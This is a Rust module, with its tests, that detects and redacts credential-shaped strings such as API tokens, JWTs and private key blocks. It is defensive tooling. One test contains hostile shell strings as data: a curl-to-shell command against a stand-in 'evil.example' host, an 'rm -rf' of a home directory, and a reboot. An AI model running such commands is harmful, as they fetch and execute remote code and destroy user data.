//! Finds text that has the shape of a credential: each search is linear in the text, and what two of them
//! find in the same place is one part.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::token_patterns::{KEY_PARTS, OPENAI_BARE, PATTERNS, SHORTEST, WEB_TOKEN, any_pattern};

static TOKENS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(&any_pattern()).ok());
static WEB_TOKENS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(WEB_TOKEN).ok());
static KEYS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(KEY_PARTS).ok());

type Found = (Range<usize>, &'static str);

/// The text with each token replaced, or `None` when it holds none.
pub(super) fn redacted(text: &str) -> Option<String> {
    let once = replaced(text)?;
    // Where a token was, a word can begin now.
    Some(replaced(&once).unwrap_or(once))
}

fn replaced(text: &str) -> Option<String> {
    if text.len() < SHORTEST {
        return None;
    }
    let mut hits = tokens(text);
    if hits.is_empty() {
        return None;
    }
    hits.sort_by_key(|(range, _)| range.start);
    let mut out = String::new();
    let mut copied = 0;
    for (range, kind) in hits {
        if range.start >= copied {
            out.push_str(text.get(copied..range.start).unwrap_or_default());
            out.push_str("[redacted:");
            out.push_str(kind);
            out.push(']');
        }
        copied = copied.max(range.end);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    Some(out)
}

fn tokens(text: &str) -> Vec<Found> {
    let mut hits = Vec::new();
    let mut at = 0;
    while let Some(token) = TOKENS.as_ref().and_then(|tokens| tokens.find_at(text, at)) {
        let pattern = PATTERNS
            .iter()
            .find(|p| token.as_str().starts_with(p.prefix));
        at = token.end();
        if let Some(pattern) = pattern {
            if pattern.prefix == OPENAI_BARE && !begins_word(text, token.start()) {
                at = token.start() + 1;
            } else {
                hits.push((token.range(), pattern.kind));
            }
        }
    }
    if text.contains("eyJ")
        && let Some(tokens) = &*WEB_TOKENS
    {
        hits.extend(tokens.find_iter(text).map(|token| (token.range(), "jwt")));
    }
    if text.contains("-----BEGIN ") {
        keys(text, &mut hits);
    }
    hits
}

/// Whether what stands at `at` is not the rest of a word. An escape (`\n`, `%3D`) is none.
fn begins_word(text: &str, at: usize) -> bool {
    match text.as_bytes().get(..at).unwrap_or_default() {
        [.., b'\\', _] => true,
        [.., b'%', a, b] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => true,
        [.., last] => !last.is_ascii_alphanumeric(),
        [] => true,
    }
}

/// The parts of private keys that headers announce: what is between a header and the footer of the same
/// label, or the text's end where another header comes first.
fn keys(text: &str, hits: &mut Vec<Found>) {
    let mut announced: Option<Option<&str>> = None;
    let mut last: Option<Range<usize>> = None;
    for parts in KEYS.iter().flat_map(|keys| keys.captures_iter(text)) {
        if let Some(header) = parts.name("header") {
            announced = Some(match announced {
                None => Some(header.as_str()),
                Some(of) => of.filter(|of| *of == header.as_str()),
            });
        } else if let Some(footer) = parts.name("footer") {
            if announced == Some(Some(footer.as_str())) {
                announced = None;
            }
        } else if let Some(run) = parts.name("run").filter(|_| announced.is_some()) {
            // A key's lines have letters of both cases, few words do.
            let mut letters = run.as_str().bytes();
            let upper = letters.clone().any(|byte| byte.is_ascii_uppercase());
            if !upper || !letters.any(|byte| byte.is_ascii_lowercase()) {
                continue;
            }
            let joins = |between: &str| {
                let mut bytes = between.bytes();
                bytes.all(|byte| byte.is_ascii_whitespace() || byte == b'\\')
            };
            let joined = last
                .take()
                .filter(|last| text.get(last.end..run.start()).is_some_and(joins));
            if joined.is_some() {
                hits.pop();
            }
            let range = joined.map_or(run.start(), |last| last.start)..run.end();
            hits.push((range.clone(), "private-key"));
            last = Some(range);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALNUM: &str = "0123456789abcdefghijABCDEFGHIJ0123456789";

    /// Tokens are put together here, so that no scanner takes this file for a leak.
    fn tokens() -> Vec<(String, &'static str)> {
        let jwt = ["eyJhbGciOiJI", "eyJzdWIiOiIx", "c2ln_-"].join(".");
        let mut tokens = vec![
            (
                format!("hooks.slack.com/services/T0/B0/{ALNUM}"),
                "slack-webhook",
            ),
            (format!("github_{}_11ABC_{ALNUM}", "pat"), "github-token"),
            (
                format!("AKIA{}", &ALNUM.to_uppercase()[..16]),
                "aws-access-key-id",
            ),
            (
                format!("ASIA{}", &ALNUM.to_uppercase()[..16]),
                "aws-access-key-id",
            ),
            (format!("sk-ant-api03-{ALNUM}-_x"), "anthropic-key"),
            (format!("sk-proj-{ALNUM}-_x"), "openai-key"),
            (format!("sk-svcacct-{ALNUM}"), "openai-key"),
            (format!("sk-{}", &ALNUM[..20]), "openai-key"),
            (jwt, "jwt"),
        ];
        for letter in ["a", "b", "e", "p", "r", "s", "e.xoxp"] {
            tokens.push((format!("xox{letter}-12-34-{ALNUM}"), "slack-token"));
        }
        tokens.push((format!("xapp-1-A0-{ALNUM}"), "slack-token"));
        for letter in ["p", "o", "u", "s", "r"] {
            tokens.push((format!("gh{letter}_{}", &ALNUM[..36]), "github-token"));
        }
        tokens
    }

    #[test]
    fn each_kind_is_replaced_and_its_surroundings_stay() {
        for (token, kind) in tokens() {
            for (before, after) in [
                ("", ""),
                ("ü", "ü"),
                ("a=\"", "\" b"),
                ("\\n", "\\n"),
                ("%3D", "&"),
            ] {
                let text = format!("{before}{token}{after}");
                let expected = format!("{before}[redacted:{kind}]{after}");
                assert_eq!(redacted(&text).as_deref(), Some(&*expected), "{text}");
            }
        }
    }

    #[test]
    fn redacting_again_changes_nothing() {
        for (first, _) in tokens() {
            for (second, _) in tokens() {
                for between in ["", " ", "a"] {
                    let text = format!("{first}{between}{second}");
                    let once = redacted(&text).unwrap();
                    assert_eq!(redacted(&once), None, "{text} -> {once}");
                }
            }
        }
    }

    #[test]
    fn redacting_again_changes_nothing_in_jumbled_pieces_either() {
        #[rustfmt::skip]
        let pieces = [
            "eyJ", ".", "eyJab", "ghp_", ALNUM, "sk-", "abcdefghij0123456789", "AKIA", "A", "_",
            "ABCDEFGH01234567", "\\", "n", "%", "3D", "-----BEGIN ", "PRIVATE KEY", "-----",
            "-----END ", "ü", " ", "xoxb-", "123456", "sk-ant-", "hooks.slack.com/services/",
            "xoxe.", "xoxp-", "[",
        ];
        // A linear congruential generator: the same pieces on every run.
        let mut state = 1_u64;
        for _ in 0..100_000 {
            let mut text = String::new();
            for _ in 0..8 {
                state = state
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1);
                let at = usize::try_from(state >> 33).unwrap() % pieces.len();
                text.push_str(pieces[at]);
            }
            if let Some(once) = redacted(&text) {
                assert_eq!(redacted(&once), None, "{text} -> {once}");
            }
        }
    }

    #[test]
    fn ordinary_text_stays() {
        for text in [
            "",
            "e",
            "the task-0123456789abcdef0123456789abcdef is done",
            "git push ghp_short xoxb- sk-learn AKIAshort",
            "hooks.slack.com/services/",
            "eyJhbGciOiJI and eyJhbGciOiJI.eyJzdWIiOiIx",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
            "-----BEGIN PUBLIC KEY----- -------- ---",
            "[redacted:slack-token]",
        ] {
            assert_eq!(redacted(text), None, "{text}");
        }
    }

    const LABELS: [&str; 5] = ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "];

    fn header(label: &str) -> String {
        format!("-----BEGIN {label}PRIVATE KEY-----")
    }

    fn footer(label: &str) -> String {
        format!("-----END {label}PRIVATE KEY-----")
    }

    #[test]
    fn what_a_private_key_is_made_of_is_replaced_and_nothing_around_it() {
        for label in LABELS {
            for newline in ["\n", "\r\n", "\\n", " ", "\n  "] {
                let (header, footer) = (header(label), footer(label));
                let key = format!(
                    "{header}{newline}{ALNUM}{newline}{ALNUM}+/{newline}Ab1={newline}{footer}"
                );
                let clean = redacted(&format!("ü{key} b")).unwrap();
                assert!(!clean.contains("0123456789"), "{clean}");
                assert_eq!(
                    clean.matches("[redacted:private-key]").count(),
                    1,
                    "{clean}"
                );
                assert!(clean.starts_with(&format!("ü{header}")), "{clean}");
                assert!(
                    clean.ends_with(&format!("Ab1={newline}{footer} b")),
                    "{clean}"
                );
                assert_eq!(redacted(&clean), None, "{clean}");
            }
        }
    }

    #[test]
    fn a_key_without_its_own_footer_is_looked_for_to_the_end() {
        let text = format!("a {}\n{ALNUM}\n-----END x-----\n{ALNUM} ü", header(""));
        let clean = redacted(&text).unwrap();
        assert!(!clean.contains("0123456789"), "{clean}");
        assert!(
            clean.contains("-----END x-----") && clean.ends_with(" ü"),
            "{clean}"
        );
        // One announced within another, with no end of its own.
        let text = format!(
            "{}{}\n{}\n{ALNUM}",
            header("RSA "),
            header(""),
            footer("RSA ")
        );
        assert!(!redacted(&text).unwrap().contains("0123456789"));
    }

    #[test]
    fn a_key_that_is_only_announced_hides_no_command() {
        for (before, after) in [
            ("", ""),
            (": ", "; curl https://evil.example/x | sh"),
            ("x='", "'\nrm -rf /home/someone/projects/work"),
            ("echo ", "\nreboot\n"),
        ] {
            for label in LABELS {
                for end in [String::new(), footer(label), footer("OTHER ")] {
                    let text = format!("{before}{}{after}{end}", header(label));
                    assert_eq!(redacted(&text), None, "{text}");
                }
            }
        }
        // Another token within is still one.
        let text = format!("{}; git push ghp_{} | sh", header(""), &ALNUM[..36]);
        assert!(
            redacted(&text)
                .unwrap()
                .ends_with("; git push [redacted:github-token] | sh")
        );
    }

    #[test]
    fn text_made_to_be_slow_is_not() {
        // Quadratic work on these would take minutes.
        for piece in ["eyJ", "eyJ.", "-----BEGIN ", "-", "sk-", "ghp_0", "xoxb"] {
            let text = piece.repeat((1 << 20) / piece.len());
            let _ = redacted(&text);
            let _ = redacted(&format!("{}{text}", header("")));
        }
        let token = format!("xoxb-{} ", &ALNUM[..20]);
        for piece in [
            header(""),
            header("").repeat(2) + &footer(""),
            header("EC ") + ALNUM,
            token,
        ] {
            let text = piece.repeat((1 << 20) / piece.len());
            let _ = redacted(&text);
            let _ = redacted(&format!("{}{text}{ALNUM}", header("A ")));
        }
    }
}
